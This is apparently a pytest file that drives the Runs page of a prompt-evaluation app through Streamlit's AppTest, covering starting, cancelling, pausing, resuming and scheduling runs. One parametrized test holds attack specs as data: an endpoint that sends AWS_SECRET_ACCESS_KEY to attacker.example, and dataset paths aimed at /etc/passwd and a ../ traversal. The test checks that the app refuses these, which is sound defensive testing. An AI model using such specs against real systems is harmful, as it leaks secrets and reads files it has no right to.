"""The Runs page, driven by Streamlit's AppTest against the real engine and database."""

from __future__ import annotations

from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from promptlab.engine import parse_spec_text
from promptlab.ui.resources import get_workbench
from tests.apptest_helpers import shown

PAGE = str(Path(__file__).resolve().parent.parent / "pages" / "runs.py")
TIMEOUT_S = 30


def spec_text(dataset: Path) -> str:
    return (
        f"name: from-the-page\ndataset: {dataset}\nvariants:\n"
        "  - messages: [{role: user, content: 'Say {{ text }}'}]\n"
        "    model: sim:fast\n    params: {max_tokens: 16}\n"
    )


def write_rows(tmp_path: Path, rows: int = 3) -> Path:
    dataset = tmp_path / "rows.csv"
    dataset.write_text("text\n" + "".join(f"row {i}\n" for i in range(rows)))
    return dataset


def test_empty_page_says_so() -> None:
    at = AppTest.from_file(PAGE, default_timeout=TIMEOUT_S).run()
    assert not at.exception
    assert any("No runs yet" in i.value for i in at.info)


def test_a_finished_run_is_listed_with_its_counts_and_resume_disabled(tmp_path: Path) -> None:
    engine = get_workbench().engine
    run_id = engine.submit(parse_spec_text(spec_text(write_rows(tmp_path))))
    assert engine.wait(run_id, timeout=TIMEOUT_S).status == "completed"
    at = AppTest.from_file(PAGE, default_timeout=TIMEOUT_S).run()
    assert not at.exception
    table = at.dataframe[0].value
    assert list(table["run"]) == [run_id]
    assert list(table["status"]) == ["completed"]
    assert any(m.label == "Succeeded" and m.value == "3" for m in at.metric)
    metrics = {m.label: m.value for m in at.metric}
    assert metrics["Attempts"] == "3" and metrics["429s"] == "0"
    assert metrics["Latency p50"].endswith(" ms") and metrics["Latency p95"].endswith(" ms")
    buttons = {b.label: b for b in at.button}
    assert buttons["Resume"].disabled and buttons["Cancel"].disabled


def test_start_follows_the_new_run_and_cancel_and_resume_buttons_work(
    tmp_path: Path, data_dir: Path
) -> None:
    engine = get_workbench().engine
    earlier = engine.submit(parse_spec_text(spec_text(write_rows(tmp_path, rows=2))))
    assert engine.wait(earlier, timeout=TIMEOUT_S).status == "completed"
    at = AppTest.from_file(PAGE, default_timeout=TIMEOUT_S).run()
    assert at.selectbox(key="run_choice").value == earlier
    # One request a second: the run is still going when Cancel is pressed.
    slow = spec_text(write_rows(tmp_path, rows=40)) + "limits: {sim: {rpm: 60, concurrency: 1}}\n"
    at.text_area(key="spec_text").set_value(slow)
    at.button(key="start_run").click().run()
    assert not at.exception
    started = [s.value for s in at.success]
    assert started and started[0].startswith("Started run_")
    run_id = started[0].split()[-1]
    choice = at.selectbox(key="run_choice")
    assert choice.value == run_id  # the detail follows the run just started
    assert "from-the-page" in choice.format_func(run_id)  # names and times, not ids only

    at.button(key=f"cancel_{run_id}").click().run()
    assert engine.is_active(run_id)  # asked first, naming what a cancel stops
    assert any(f"Cancel run {run_id}?" in shown(w.value) for w in at.warning)
    at.button(key=f"confirm::cancel::{run_id}::yes").click().run()
    cancelled = engine.wait(run_id, timeout=TIMEOUT_S)
    assert cancelled.status == "cancelled" and cancelled.cancelled > 0
    at.run()
    metrics = {m.label: m.value for m in at.metric}
    assert metrics["Cancelled"] == str(cancelled.cancelled)  # counted, not lost in 100%

    at.button(key=f"resume_{run_id}").click().run()
    assert not at.exception
    assert engine.is_active(run_id) or engine.status(run_id).status == "completed"
    engine.cancel(run_id)
    assert engine.wait(run_id, timeout=TIMEOUT_S).status in ("cancelled", "completed")


@pytest.fixture
def data_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The app reads datasets only from its data folder: here, the test's own."""
    monkeypatch.setenv("PROMPTLAB_DATA_DIR", str(tmp_path))
    return tmp_path


@pytest.mark.parametrize(
    ("spec", "message"),
    [
        # The security report's spec: a secret variable sent to the author's host.
        (
            "dataset: {data}/rows.csv\nvariants: [{{messages: [{{role: user, content: hi}}],"
            " model: 'steal:m'}}]\nendpoints: {{steal: {{kind: openai, base_url:"
            " 'https://attacker.example/v1', api_key_env: AWS_SECRET_ACCESS_KEY}}}}\n",
            "a run spec cannot name a key",
        ),
        ("dataset: /etc/passwd.csv\nvariants: [{{prompt: x}}]\n", "outside"),
        ("dataset: {data}/../outside.csv\nvariants: [{{prompt: x}}]\n", "outside"),
        (
            "dataset: {data}/rows.csv\nvariants: [{{prompt: x}}]\nendpoints: {{x: {{kind: openai,"
            " base_url: 5}}}}\n",
            "endpoints.x.base_url: expected a URL string, got 5",
        ),
    ],
)
def test_specs_that_reach_outside_are_refused_inline(
    tmp_path: Path, data_dir: Path, spec: str, message: str
) -> None:
    write_rows(tmp_path)
    (tmp_path.parent / "outside.csv").write_text("text\nsecret row\n")
    at = AppTest.from_file(PAGE, default_timeout=TIMEOUT_S).run()
    at.text_area(key="spec_text").set_value(spec.format(data=tmp_path))
    at.button(key="start_run").click().run()
    assert not at.exception
    assert any(message in shown(e.value) for e in at.error), [e.value for e in at.error]
    assert get_workbench().runs.list() == []


def test_a_bad_spec_shows_the_error(data_dir: Path) -> None:
    at = AppTest.from_file(PAGE, default_timeout=TIMEOUT_S).run()
    at.text_area(key="spec_text").set_value(f"variants: []\ndataset: {data_dir}/x.csv\n")
    at.button(key="start_run").click().run()
    assert any("variants" in shown(e.value) for e in at.error)


def test_the_example_spec_runs_the_demo_ab_as_it_stands() -> None:
    at = AppTest.from_file(PAGE, default_timeout=TIMEOUT_S).run()
    at.button(key="start_run").click().run()
    assert not at.exception
    started = [s.value for s in at.success]
    assert started, [e.value for e in at.error]
    final = get_workbench().engine.wait(started[0].split()[-1], timeout=120)
    assert final.status == "completed"
    assert final.succeeded == 80  # 40 demo tickets x 2 variants
    at.run()
    variants = next(d.value for d in at.dataframe if "variant" in d.value.columns)
    assert list(variants["variant"]) == ["production", "staging"]
    assert list(variants["succeeded"]) == [40, 40]
    # Completion counts usable outputs only: the demo's schema catches a few broken ones.
    view = get_workbench().runs.view(started[0].split()[-1])
    assert list(variants["completion"]) == [v.completion_rate for v in view.variants]
    assert all(
        v.checked == 40 and v.completed == 40 - v.invalid - v.truncated for v in view.variants
    )
    assert list(variants["valid"]) == [v.validity_rate for v in view.variants]
    assert all(variants["p90 ms"] > 0)


def test_failed_items_are_listed_with_their_reason(tmp_path: Path) -> None:
    dataset = tmp_path / "rows.csv"
    dataset.write_text("other\nx\ny\n")  # no `text` column: every row misses the variable
    engine = get_workbench().engine
    run_id = engine.submit(parse_spec_text(spec_text(dataset)))
    assert engine.wait(run_id, timeout=TIMEOUT_S).failed == 2
    at = AppTest.from_file(PAGE, default_timeout=TIMEOUT_S).run()
    assert at.selectbox[0].value == run_id  # the only run of this test's database
    tables = [d.value for d in at.dataframe if "dataset row" in d.value.columns]
    assert tables, "no table of failed items"
    assert list(tables[0]["dataset row"]) == [1, 2]
    assert "'text' is a required property" in tables[0]["message"][0]


def test_a_run_whose_process_is_gone_says_so_with_the_way_on(tmp_path: Path) -> None:
    wb = get_workbench()
    run_id = wb.engine.submit(parse_spec_text(spec_text(write_rows(tmp_path))))
    assert wb.engine.wait(run_id, timeout=TIMEOUT_S).status == "completed"
    assert wb.runs.view(run_id).run.state == "completed"
    # As a killed process leaves it: still `running`, owned by a process that is gone.
    with wb.store.transaction() as cur:
        cur.execute(
            "UPDATE runs SET status = 'running', finished_at = NULL, owner = 'elsewhere:1:ab' "
            "WHERE run_id = ?",
            [run_id],
        )
    gone = wb.runs.view(run_id).run
    assert gone.process_gone and gone.state == "interrupted (process gone)"
    at = AppTest.from_file(PAGE, default_timeout=TIMEOUT_S).run()
    assert not at.exception
    assert list(at.dataframe[0].value["status"]) == ["interrupted (process gone)"]
    assert any(f"promptlab resume {run_id}" in shown(w.value) for w in at.warning)
    assert not {b.label: b for b in at.button}["Resume"].disabled
    # Resumed here, it is this process's again.
    wb.runs.resume(run_id)
    assert wb.engine.wait(run_id, timeout=TIMEOUT_S).status == "completed"
    assert not wb.runs.view(run_id).run.process_gone


def test_a_spec_with_a_schedule_is_added_and_paused_resumed_and_removed_on_the_page(
    tmp_path: Path, data_dir: Path
) -> None:
    at = AppTest.from_file(PAGE, default_timeout=TIMEOUT_S).run()
    nightly = spec_text(write_rows(tmp_path)) + 'schedule: "0 2 * * *"\n'
    at.text_area(key="spec_text").set_value(nightly)
    at.button(key="start_run").click().run()
    assert not at.exception
    assert [s.value for s in at.success][0].startswith("Scheduled from-the-page (0 2 * * *, UTC)")
    assert get_workbench().runs.list() == []  # a schedule, not a run started now
    table = at.dataframe[0].value
    assert list(table["schedule"]) == ["from-the-page"] and list(table["state"]) == ["active"]

    at.button(key="schedule_pause").click().run()
    assert list(at.dataframe[0].value["state"]) == ["paused"]
    at.button(key="schedule_resume").click().run()
    assert list(at.dataframe[0].value["state"]) == ["active"]
    at.button(key="schedule_remove").click().run()
    assert [s.name for s in get_workbench().schedules.list()] == ["from-the-page"]
    assert any("Remove schedule from-the-page?" in shown(w.value) for w in at.warning)
    at.button(key="confirm::schedule_remove::from-the-page::yes").click().run()
    assert not at.exception and get_workbench().schedules.list() == []
    assert any("No runs yet" in i.value for i in at.info)


def test_pause_stops_a_run_on_the_page_and_resume_goes_on(tmp_path: Path) -> None:
    engine = get_workbench().engine
    slow = spec_text(write_rows(tmp_path, rows=40)) + "limits: {sim: {rpm: 60, concurrency: 1}}\n"
    run_id = engine.submit(parse_spec_text(slow))
    at = AppTest.from_file(PAGE, default_timeout=TIMEOUT_S).run()
    assert not at.button(key=f"pause_{run_id}").disabled
    at.button(key=f"pause_{run_id}").click().run()
    paused = engine.wait(run_id, timeout=TIMEOUT_S)
    assert paused.status == "paused" and paused.pending > 0 and paused.cancelled == 0
    at.run()
    assert list(at.dataframe[0].value["status"]) == ["paused"]
    assert at.button(key=f"pause_{run_id}").disabled
    at.button(key=f"resume_{run_id}").click().run()
    assert not at.exception and engine.is_active(run_id)
    engine.cancel(run_id)
    engine.wait(run_id, timeout=TIMEOUT_S)
